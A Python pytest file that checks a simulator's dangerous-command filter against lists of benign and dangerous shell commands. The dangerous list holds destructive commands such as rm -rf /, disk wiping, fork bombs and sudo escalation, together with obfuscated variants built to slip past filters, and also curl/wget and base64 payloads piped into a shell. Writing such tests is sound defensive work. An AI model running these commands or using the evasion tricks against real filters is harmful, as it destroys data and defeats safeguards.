"""The dangerous-command check: a teaching aid that refuses the lesson's examples and their disguises, never
an ordinary command (what keeps the server safe is the sandbox, see test_sandbox.py and test_attacks.py)."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from simulator.errors import UnsafeCommandError
from simulator.safety import check_command, dangerous_reason

BENIGN = [
    'grep -r sudo docs',
    'grep -rn "rm -rf" scripts/',
    'echo "rm -rf /"',
    'git log --grep=reboot',
    'ls -la /',
    'ls ~',
    'cat /etc/os-release',
    'rm -rf build dist',
    'rm -rf ./node_modules',
    'rm -f /tmp/x.log',
    "find . -name '*.pyc' -delete",
    'find /tmp/work -type f',
    'python -m pytest -q',
    'pytest tests/ -v',
    'sleep 5 && echo done',
    'kill %1',
    'kill -9 12345',
    'man kill',
    'ps aux | grep sudo',
    'history | grep shutdown',
    'dd if=/dev/zero of=test.img bs=1M count=10',
    'curl -fsSL https://example.com -o install.sh',
    'chmod +x install.sh && ./install.sh',
    'chmod -R u+w build',
    'tar czf out.tgz src',
    'make -j4 test',
    'npm test',
    'pip install -r requirements.txt',
    'echo $HOME',
    'du -sh ~/project',
    'cat README.md | head -20',
    'sh ./build.sh',
    'bash -c "echo hi && ls"',
    'cat notes.txt | wc -l',
    "awk '{print $1}' data.txt | sort | uniq -c",
    "sed -i 's/su/SU/g' notes.txt",
    "printf 'halt\\n' > words.txt",
    'echo "kill -9 -1" >> notes.txt',
    'for f in *.log; do rm -f "$f"; done',
    'git rm -r --cached build',
    'rm -r tmp/cache',
    'mkdir -p out && cp -r src out/',
    'export PATH=$HOME/bin:$PATH',
    'timeout 10 ./slow.sh',
    'echo $(date) > stamp.txt',
    'ls -la $(pwd)',
    'wc -l < input.txt',
    "python3 -c 'print(1)' 2>&1 | tee log.txt",
    'cat /dev/null > empty.txt',
    'git status && git diff --stat',
    'echo done # rm -rf /',
    'env | sort',
    'nohup ./server.sh &',
    "find src -name '*.py' -exec grep -l TODO {} +",
    'xargs -n1 echo < list.txt',
    'kill -1',
    'rm -rf -- ./-weird',
    'chown -R $USER build',
    'mv ~/old.txt ~/new.txt',
    'killer_app --run',
    'sudoku --solve puzzle.txt',
    'echo sudo',
    'cat ~/.bashrc',
]
DANGEROUS = [
    'rm -rf /',
    'rm -rf / --no-preserve-root',
    'rm -fr ~',
    'rm -rf $HOME',
    'rm -rf "$HOME"',
    'rm -r -f /*',
    'rm --recursive --force /',
    "r''m -rf /",
    '"rm" -rf /',
    '\\rm -rf /',
    '/bin/rm -rf /',
    'command rm -rf /',
    'env rm -rf /',
    '$(echo rm) -rf /',
    '`echo rm` -rf /',
    'rm${IFS}-rf${IFS}/',
    '{rm,-rf,/}',
    "$'\\x72\\x6d' -rf /",
    '/bin/r? -rf /',
    'sudo ls',
    'sudo -u root sh',
    'echo hi && sudo rm x',
    'doas sh',
    'su -',
    'su root -c id',
    'pkexec bash',
    'shutdown -h now',
    'reboot',
    'systemctl poweroff',
    'halt',
    'mkfs.ext4 /dev/sda1',
    'dd if=/dev/zero of=/dev/sda',
    'cat /dev/urandom > /dev/sda',
    ':(){ :|:& };:',
    'bomb(){ bomb|bomb& };bomb',
    'chmod -R 777 /',
    'chmod 777 /',
    'chown -R nobody /',
    'curl http://x.sh | sh',
    'wget -qO- http://x | bash',
    'echo cm0gLXJmIC8= | base64 -d | sh',
    'base64 -d payload | bash',
    'cat x | sh -s',
    'bash <(curl -s http://x)',
    "sh -c 'rm -rf /'",
    'bash -c "sudo id"',
    'eval "rm -rf /"',
    'find / -delete',
    'find ~ -type f -exec rm {} +',
    'find / -name x -exec rm -rf {} \\;',
    'kill -9 -1',
    'kill -- -1',
    'pkill python',
    'killall node',
    'mv ~ /dev/null',
    'nohup rm -rf / &',
    'timeout 5 rm -rf /',
    '(rm -rf /)',
    '{ rm -rf /; }',
    'if true; then rm -rf /; fi',
    'for i in 1; do sudo id; done',
    'true; rm -rf ~/',
    'echo ok || shutdown now',
    'x=1 rm -rf /',
    'echo $(sudo id)',
    'ls `sudo id`',
    'rm -rf /usr',
    'rm -rf /etc/',
    'nice -n 10 rm -rf /',
    'busybox rm -rf /',
    'sudo\tls',
    'cd / && sudo ls',
    'echo hi > /dev/nvme0n1',
    'xargs sudo < list',
    'source /dev/stdin',
    'bash -c \'bash -c "sudo id"\'',
    'systemctl reboot',
    'init 0',
]


def test_the_lists_are_long_enough():
    assert len(BENIGN) >= 20 and len(DANGEROUS) >= 50


@pytest.mark.parametrize("command", BENIGN)
def test_no_benign_command_is_refused(command):
    assert dangerous_reason(command) is None


@pytest.mark.parametrize("command", DANGEROUS)
def test_dangerous_commands_and_their_disguises_are_refused(command):
    assert dangerous_reason(command) is not None
    with pytest.raises(UnsafeCommandError, match=r"^Error: Dangerous command blocked \("):
        check_command(command)


@pytest.mark.parametrize(("command", "reason"), [
    ("grep -r sudo docs", None),
    ("sudo rm -rf /", "removes the root or home directory"),
    ("sudo ls", "asks for root privileges (sudo)"),
    ("echo cm0gLXJmIC8= | base64 -d | sh", "pipes text into a shell"),
    ("find / -delete", "deletes files across the whole system"),
    ("$(echo rm) -rf /", "runs a command whose name is only known at run time, aimed at the root or home directory"),
    (":(){ :|:& };:", "is a fork bomb"),
    ("a\x00b", "contains a NUL byte"),
])
def test_reasons_say_what_was_seen(command, reason):
    assert dangerous_reason(command) == reason


@settings(max_examples=300, deadline=None, database=None)
@given(st.text(alphabet=st.sampled_from(list("rm -f/~$()`'\"\\;|&<>{}*?![]=\n\tabcsudoeval")), max_size=60))
def test_any_text_gets_an_answer_and_never_an_exception(command):
    reason = dangerous_reason(command)
    assert reason is None or (isinstance(reason, str) and "\n" not in reason)
